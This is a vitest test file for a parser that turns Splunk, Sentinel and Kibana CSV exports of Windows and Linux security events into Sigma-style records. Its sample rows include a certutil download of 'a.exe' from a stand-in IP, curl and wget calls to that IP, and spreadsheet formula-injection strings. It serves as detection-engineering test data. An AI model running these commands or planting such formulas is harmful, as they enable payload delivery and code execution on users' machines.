/**
 * CSV exports of SIEM searches (src/sources/csv-events.ts), written by hand as each product
 * writes them: Splunk Web's "Export → CSV" and `| outputcsv`, Sentinel / Log Analytics "Export →
 * CSV (all columns)" of the SecurityEvent and Event tables, Kibana Discover's CSV report of
 * Winlogbeat documents. Expected values are read off the rows.
 */
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { csvEventsReader } from '../../src/sources/csv-events.js';
import { sniffFormat } from '../../src/sources/open.js';
import { otrfReader } from '../../src/sources/otrf.js';
import { chunked, corpusFile, readWith, withoutSource } from './helpers.js';

const read = (text: string) => readWith(csvEventsReader, Readable.from([Buffer.from(text)]), 'export.csv');

// Splunk Web quotes the names of its internal fields; a multivalue field is one cell, its values on separate lines.
const SPLUNK = [
  '"_time",host,source,sourcetype,EventCode,Computer,User,Image,CommandLine,ParentImage,DestinationIp,DestinationHostname,DestinationPort',
  String.raw`2026-11-27T09:14:02.120+0000,DEV-WS-042,XmlWinEventLog:Microsoft-Windows-Sysmon/Operational,XmlWinEventLog,1,DEV-WS-042.corp.example.com,CORP\alice,C:\Windows\System32\cmd.exe,"C:\WINDOWS\system32\cmd.exe /d /s /c ""whoami > %TEMP%\argus-npm-test.txt""",C:\Program Files\nodejs\node.exe,,,`,
  String.raw`2026-11-27T09:31:46.331+00:00,DEV-WS-042,XmlWinEventLog:Microsoft-Windows-Sysmon/Operational,XmlWinEventLog,"3` + '\n' + String.raw`3",,CORP\alice,C:\Program Files\nodejs\node.exe,,,104.16.24.35,registry.npmjs.org,443`,
].join('\n') + '\n';

// `| outputcsv`: _time in epoch seconds, the channel in `source` only.
const OUTPUTCSV = [
  '_time,host,source,EventCode,Image,TargetFilename',
  String.raw`1795771000.004,ws1,WinEventLog://Microsoft-Windows-Sysmon/Operational,11,C:\Windows\System32\cmd.exe,C:\src\app\.github\workflows\ci.yml`,
].join('\n') + '\n';

// Sentinel's SecurityEvent table, as the portal exports it: a BOM, `[UTC]` on datetime columns, its en-US rendering.
const SECURITY_EVENT_DATA =
  '<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><Data Name="SubjectUserSid">S-1-5-21-3623811015-3361044348-30300820-1013</Data><Data Name="SubjectUserName">alice</Data><Data Name="SubjectDomainName">CORP</Data><Data Name="SubjectLogonId">0x2f4a1c</Data><Data Name="NewProcessId">0x1c90</Data><Data Name="NewProcessName">C:\\Windows\\System32\\certutil.exe</Data><Data Name="TokenElevationType">%%1938</Data><Data Name="ProcessId">0x1b40</Data><Data Name="CommandLine">certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe</Data><Data Name="TargetUserSid">S-1-0-0</Data><Data Name="ParentProcessName">C:\\Windows\\System32\\cmd.exe</Data><Data Name="MandatoryLabel">S-1-16-8192</Data></EventData>';
const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
const SENTINEL_SECURITY =
  '\uFEFFTenantId,TimeGenerated [UTC],SourceSystem,Account,AccountType,Computer,EventSourceName,Channel,Task,Level,EventData,EventID,Activity,CommandLine,NewProcessId,NewProcessName,ParentProcessName,Process,ProcessId,SubjectDomainName,SubjectUserName,SubjectUserSid,TokenElevationType,Type,_ResourceId\r\n' +
  String.raw`3b8c2a5e-0000-4000-8000-000000000001,"11/27/2026, 9:20:11.401 AM",OpsManager,CORP\alice,User,DEV-WS-042.corp.example.com,Microsoft-Windows-Security-Auditing,Security,13312,8,` +
  quoted(SECURITY_EVENT_DATA) +
  String.raw`,4688,4688 - A new process has been created.,certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe,0x1c90,C:\Windows\System32\certutil.exe,C:\Windows\System32\cmd.exe,certutil.exe,0x1b40,CORP,alice,S-1-5-21-3623811015-3361044348-30300820-1013,%%1938,SecurityEvent,/subscriptions/x/resourcegroups/y/providers/microsoft.compute/virtualmachines/dev-ws-042` +
  '\r\n';

// Sentinel's Event table: the channel in EventLog, the provider in Source, EventData the agent's <DataItem> around the XML.
const SYSMON1_DATA_ITEM =
  '<DataItem type="System.XmlData" time="2026-11-27T09:14:02.1213388+00:00" sourceHealthServiceId="5d5e6f70-0000-4000-8000-000000000002"><EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-27 09:14:02.120</Data><Data Name="ProcessGuid">{5f1c2a10-978b-a5ee-9471-3f09aa08e3ca}</Data><Data Name="ProcessId">7312</Data><Data Name="Image">C:\\Windows\\System32\\cmd.exe</Data><Data Name="CommandLine">C:\\WINDOWS\\system32\\cmd.exe /d /s /c "whoami"</Data><Data Name="User">CORP\\alice</Data><Data Name="ParentProcessId">6120</Data><Data Name="ParentImage">C:\\Program Files\\nodejs\\node.exe</Data><Data Name="ParentCommandLine">node install.js</Data></EventData></DataItem>';
const SENTINEL_EVENT =
  '\uFEFFTenantId,SourceSystem,TimeGenerated [UTC],Source,EventLog,Computer,EventLevel,EventLevelName,ParameterXml,EventData,EventID,RenderedDescription,UserName,Type,_ResourceId\r\n' +
  '3b8c2a5e-0000-4000-8000-000000000001,OpsManager,"11/27/2026, 9:14:02.121 AM",Microsoft-Windows-Sysmon,Microsoft-Windows-Sysmon/Operational,DEV-WS-042.corp.example.com,4,Information,' +
  quoted('<Param>-</Param><Param>2026-11-27 09:14:02.120</Param>') + ',' + quoted(SYSMON1_DATA_ITEM) +
  ',1,Process Create:,NT AUTHORITY\\SYSTEM,Event,/subscriptions/x\r\n';

// Kibana Discover's CSV report of Winlogbeat documents: every value quoted, @timestamp in the default dateFormat.
const KIBANA = [
  '"@timestamp","host.name","winlog.channel","winlog.event_id","winlog.provider_name","winlog.record_id","winlog.event_data.Image","winlog.event_data.DestinationIp","winlog.event_data.DestinationHostname","winlog.event_data.DestinationPort","process.parent.executable","process.command_line","user.domain","user.name"',
  String.raw`"Nov 27, 2026 @ 09:31:46.331","dev-ws-042","Microsoft-Windows-Sysmon/Operational","3","Microsoft-Windows-Sysmon","48260","C:\Program Files\nodejs\node.exe","104.16.24.35","registry.npmjs.org","443","","","CORP","alice"`,
  String.raw`"2026-11-27T09:14:02.120Z","dev-ws-042","Microsoft-Windows-Sysmon/Operational","1","Microsoft-Windows-Sysmon","48212","C:\Windows\System32\cmd.exe","","","","C:\Program Files\nodejs\node.exe","C:\WINDOWS\system32\cmd.exe /d /s /c ""whoami""","CORP","alice"`,
].join('\n') + '\n';

describe('csv-events: Splunk', () => {
  it('Export → CSV: Sysmon 1 and 3 by sourcetype and EventCode, _time with either offset form, a multivalue EventCode', async () => {
    const { events, bad } = await read(SPLUNK);
    expect(bad).toEqual([]);
    const [create, connect] = events;
    expect(create).toMatchObject({
      category: 'process_creation', product: 'windows', service: 'sysmon', host: 'DEV-WS-042.corp.example.com', user: 'CORP\\alice',
      time: Date.UTC(2026, 10, 27, 9, 14, 2, 120), source: { file: 'export.csv', format: 'csv-events', line: 2 },
    });
    expect(create!.fields).toMatchObject({
      EventID: '1', Image: 'C:\\Windows\\System32\\cmd.exe', ParentImage: 'C:\\Program Files\\nodejs\\node.exe',
      CommandLine: 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "whoami > %TEMP%\\argus-npm-test.txt"',
    });
    // Empty cells are absent fields.
    expect(create!.fields).not.toHaveProperty('DestinationIp');
    expect(connect).toMatchObject({ category: 'network_connection', service: 'sysmon', host: 'DEV-WS-042', time: Date.UTC(2026, 10, 27, 9, 31, 46, 331) });
    expect(connect!.fields).toMatchObject({ EventID: '3', DestinationHostname: 'registry.npmjs.org', DestinationIp: '104.16.24.35', DestinationPort: '443' });
    expect(connect!.source.line).toBe(3);
  });

  it('| outputcsv: _time in epoch seconds, the channel from source', async () => {
    const { events, bad } = await read(OUTPUTCSV);
    expect(bad).toEqual([]);
    expect(events[0]).toMatchObject({ category: 'file_event', service: 'sysmon', host: 'ws1', time: Date.UTC(2026, 10, 27, 9, 16, 40, 4) });
    expect(events[0]!.fields.TargetFilename).toBe('C:\\src\\app\\.github\\workflows\\ci.yml');
  });
});

describe('csv-events: Sentinel / Log Analytics', () => {
  it('SecurityEvent 4688: process_creation with the Sigma names, the [UTC] column read as UTC, EventData XML beside the columns', async () => {
    const { events, bad } = await read(SENTINEL_SECURITY);
    expect(bad).toEqual([]);
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      category: 'process_creation', product: 'windows', service: 'security', host: 'DEV-WS-042.corp.example.com', user: 'CORP\\alice',
      time: Date.UTC(2026, 10, 27, 9, 20, 11, 401),
    });
    expect(events[0]!.fields).toMatchObject({
      EventID: '4688', Channel: 'Security', Provider_Name: 'Microsoft-Windows-Security-Auditing',
      Image: 'C:\\Windows\\System32\\certutil.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe', ProcessId: '0x1c90', ParentProcessId: '0x1b40',
      TimeGenerated: '11/27/2026, 9:20:11.401 AM', MandatoryLabel: 'S-1-16-8192', // only in the XML
    });
  });

  it('Event table Sysmon 1: channel from EventLog, provider from Source, the EventData <DataItem> read as fields', async () => {
    const { events, bad } = await read(SENTINEL_EVENT);
    expect(bad).toEqual([]);
    expect(events[0]).toMatchObject({
      category: 'process_creation', product: 'windows', service: 'sysmon', host: 'DEV-WS-042.corp.example.com', user: 'CORP\\alice',
      time: Date.UTC(2026, 10, 27, 9, 14, 2, 121),
    });
    expect(events[0]!.fields).toMatchObject({
      EventID: '1', Channel: 'Microsoft-Windows-Sysmon/Operational', Provider_Name: 'Microsoft-Windows-Sysmon',
      Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "whoami"',
      ParentImage: 'C:\\Program Files\\nodejs\\node.exe', ParentCommandLine: 'node install.js', UtcTime: '2026-11-27 09:14:02.120',
    });
  });

  it('WindowsEvent 4688: EventData as JSON lifted beside the columns', async () => {
    const data = JSON.stringify({ SubjectUserName: 'alice', SubjectDomainName: 'CORP', NewProcessId: '0x1c90', NewProcessName: 'C:\\Windows\\System32\\certutil.exe', ProcessId: '0x1b40', CommandLine: 'certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe' });
    const { events, bad } = await read(`TimeGenerated [UTC],Computer,Channel,Provider,EventID,EventData,Type\r\n"11/27/2026, 9:20:11.401 AM",ws1,Security,Microsoft-Windows-Security-Auditing,4688,${quoted(data)},WindowsEvent\r\n`);
    expect(bad).toEqual([]);
    expect(events[0]).toMatchObject({ category: 'process_creation', service: 'security', host: 'ws1', user: 'CORP\\alice', time: Date.UTC(2026, 10, 27, 9, 20, 11, 401) });
    expect(events[0]!.fields).toMatchObject({ Image: 'C:\\Windows\\System32\\certutil.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ProcessId: '0x1c90', ParentProcessId: '0x1b40', Provider_Name: 'Microsoft-Windows-Security-Auditing' });
  });

  it('a [Local Time] column gives no time unless its value names a zone (the viewer\'s zone is unknown); UtcTime then does', async () => {
    const text = 'TimeGenerated [Local Time],Computer,EventID,Channel,Image\n"11/27/2026, 10:14:02.121 AM",ws1,1,Microsoft-Windows-Sysmon/Operational,C:\\x.exe\n';
    expect((await read(text)).events[0]!.time).toBeUndefined();
    expect((await read(text.replace('[UTC]', '').replace('[Local Time]', '[UTC]'))).events[0]!.time).toBe(Date.UTC(2026, 10, 27, 10, 14, 2, 121));
    expect((await read(text.replace('"11/27/2026, 10:14:02.121 AM"', '2026-11-27T10:14:02.121+01:00'))).events[0]!.time).toBe(Date.UTC(2026, 10, 27, 9, 14, 2, 121));
    const noon = text.replace('[Local Time]', '[UTC]').replace('"11/27/2026, 10:14:02.121 AM"', '"1/2/2026, 12:05:00.5 PM"');
    expect((await read(noon)).events[0]!.time).toBe(Date.UTC(2026, 0, 2, 12, 5, 0, 500));
    const withUtc = text.replace('Image\n', 'Image,UtcTime\n').replace('x.exe\n', 'x.exe,2026-11-27 09:14:02.120\n');
    expect((await read(withUtc)).events[0]!.time).toBe(Date.UTC(2026, 10, 27, 9, 14, 2, 120));
  });
});

describe('csv-events: Kibana ECS columns', () => {
  it('winlog.* nested back and mapped as winlogbeat maps them; ECS process.* fill the Sigma names; Kibana\'s dateFormat read', async () => {
    const { events, bad } = await read(KIBANA);
    expect(bad).toEqual([]);
    const [connect, create] = events;
    expect(connect).toMatchObject({ category: 'network_connection', service: 'sysmon', host: 'dev-ws-042', user: 'CORP\\alice', time: Date.UTC(2026, 10, 27, 9, 31, 46, 331) });
    expect(connect!.fields).toMatchObject({
      EventID: 3, Channel: 'Microsoft-Windows-Sysmon/Operational', Provider_Name: 'Microsoft-Windows-Sysmon', EventRecordID: '48260',
      Image: 'C:\\Program Files\\nodejs\\node.exe', DestinationIp: '104.16.24.35', DestinationHostname: 'registry.npmjs.org', DestinationPort: '443',
    });
    expect(create).toMatchObject({ category: 'process_creation', time: Date.UTC(2026, 10, 27, 9, 14, 2, 120) });
    expect(create!.fields).toMatchObject({
      Image: 'C:\\Windows\\System32\\cmd.exe', ParentImage: 'C:\\Program Files\\nodejs\\node.exe', CommandLine: 'C:\\WINDOWS\\system32\\cmd.exe /d /s /c "whoami"',
    });
  });
});

describe('csv-events: Kibana formula escaping', () => {
  it("takes back the ' Kibana puts before values a spreadsheet would run (escapeFormulaValues, on by default)", async () => {
    const header = '"@timestamp","host.name","winlog.channel","winlog.event_id","winlog.event_data.Image","winlog.event_data.DestinationIp","winlog.event_data.DestinationHostname","winlog.event_data.User","process.command_line","user.name"';
    const row = String.raw`"2026-11-27T09:31:46.331Z","dev-ws-042","Microsoft-Windows-Sysmon/Operational","3","C:\Program Files
odejs
ode.exe","104.16.24.35","'-","'@evil","'=cmd|' /c calc'!A0","'+x"`;
    const kept = String.raw`"2026-11-27T09:31:47.331Z","dev-ws-042","Microsoft-Windows-Sysmon/Operational","3","C:\Program Files
odejs
ode.exe","104.16.24.36","it's","'quoted'","'x","bob"`;
    const { events, bad } = await read([header, row, kept].join('\n') + '\n');
    expect(bad).toEqual([]);
    expect(events[0]!.fields).toMatchObject({ DestinationHostname: '-', User: '@evil', CommandLine: "=cmd|' /c calc'!A0" });
    // Only a ' before a formula char is Kibana's: other values keep theirs.
    expect(events[1]!.fields).toMatchObject({ DestinationHostname: "it's", User: "'quoted'", CommandLine: "'x" });
  });
});

describe('csv-events: other rows', () => {
  it('Sysmon for Linux by its channel; Sigma logsource columns (auditd-derived rows) taken as they are', async () => {
    const { events } = await read(
      'UtcTime,Computer,EventID,Channel,category,product,Image,CommandLine\n' +
        '2026-11-27 09:00:00.000,lx1,1,Linux-Sysmon/Operational,,,/usr/bin/curl,curl http://203.0.113.7\n' +
        '2026-11-27 09:00:01.000,lx1,,,process_creation,linux,/usr/bin/wget,wget http://203.0.113.7\n',
    );
    expect(events.map((e) => [e.product, e.service, e.category, e.host, e.time])).toEqual([
      ['linux', 'sysmon', 'process_creation', 'lx1', Date.UTC(2026, 10, 27, 9)],
      ['linux', undefined, 'process_creation', 'lx1', Date.UTC(2026, 10, 27, 9, 0, 1)],
    ]);
  });

  it('a row with the wrong cell count is one bad record with its line; the rows around it are read', async () => {
    const lines = SPLUNK.trim().split('\n');
    const broken = [lines[0], lines[1], 'too,few,cells', lines[2], lines[3]].join('\n') + '\n';
    const { events, bad } = await read(broken);
    expect(bad).toEqual([{ file: 'export.csv', format: 'csv-events', line: 3, reason: '3 cells, header has 13' }]);
    expect(events.map((e) => [e.source.line, e.category])).toEqual([[2, 'process_creation'], [4, 'network_connection']]);
  });

  it('reads an export cut into awkward chunks (a BOM alone, then a byte at a time) as a whole', async () => {
    const whole = await read(SENTINEL_EVENT);
    const cut = await readWith(csvEventsReader, chunked(SENTINEL_EVENT, [3, 1, 1, 7, 4096]));
    expect(withoutSource(cut.events)).toEqual(withoutSource(whole.events));
  });
});

describe('csv-events: sniffing', () => {
  it('the exports above are csv-events', () => {
    for (const text of [SPLUNK, OUTPUTCSV, SENTINEL_SECURITY, SENTINEL_EVENT, KIBANA]) expect(sniffFormat(text)?.format).toBe('csv-events');
  });

  it('the specific CSV readers keep their files', () => {
    const file = (path: string) => readFileSync(path, 'utf8');
    expect(sniffFormat(file('test/fixtures/windows/atomic-1-3-4.defender.csv'))?.format).toBe('defender');
    expect(sniffFormat(file('test/fixtures/windows/atomic-1-3-4.evtxecmd.csv'))?.format).toBe('evtxecmd');
    expect(sniffFormat(file('test/fixtures/sources/qradar-events.csv'))?.format).toBe('qradar-csv');
    // A QRadar export whose columns include Sigma names (the AQL `AS` aliases) is still QRadar's.
    expect(sniffFormat('starttime,qidname,devicehostname,Image,CommandLine,EventID\n1700000000000,Process Create,ws1,a,b,1\n')?.format).toBe('qradar-csv');
  });

  it('a CSV without event columns, or with event fields but nothing naming the event, is not csv-events', () => {
    expect(csvEventsReader.sniff('name,version\nleft-pad,1.3.0\n')).toBe(0);
    expect(csvEventsReader.sniff('Image,CommandLine\nC:\\x.exe,x\n')).toBe(0);
    expect(csvEventsReader.sniff('{"EventID": 1, "Channel": "Security", "Image": "x"}\n')).toBe(0);
  });
});

describe('csv-events: Sentinel Syslog rows of Linux hosts', () => {
  /** The first rows of an OTRF Azure Syslog dataset, as the portal's CSV export of the same rows. */
  function asCsv(relative: string, count: number): { json: string; csv: string } {
    const lines = readFileSync(corpusFile(`OTRF__Security-Datasets/${relative}`), 'utf8').split('\n').slice(0, count);
    const rows = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
    const columns = [...new Set(rows.flatMap((row) => Object.keys(row)))];
    const cell = (v: unknown) => (v === undefined || v === null ? '' : quoted(String(v)));
    return { json: lines.join('\n') + '\n', csv: [columns.join(','), ...rows.map((row) => columns.map((c) => cell(row[c])).join(','))].join('\r\n') + '\r\n' };
  }

  for (const [name, file] of [
    ['Sysmon for Linux <Event> in SyslogMessage', 'syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json'],
    ['AUOMS (auditd) records in SyslogMessage', 'syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json'],
  ] as const) {
    it(`${name}: the events otrf makes of the same rows as JSON`, async () => {
      const { json, csv } = asCsv(file, 40);
      expect(sniffFormat(csv)?.format).toBe('csv-events');
      const fromCsv = await read(csv);
      const fromJson = await readWith(otrfReader, Readable.from([Buffer.from(json)]), 'rows.json');
      expect(fromCsv.bad).toEqual(fromJson.bad.map((b) => ({ ...b, file: 'export.csv', format: 'csv-events', line: b.line! + 1 })));
      expect(fromCsv.events.length).toBeGreaterThan(20);
      const linux = fromCsv.events.filter((e) => e.product === 'linux' && e.category !== undefined);
      expect(linux.length).toBeGreaterThan(0);
      expect(withoutSource(fromCsv.events)).toEqual(withoutSource(fromJson.events));
    });
  }
});
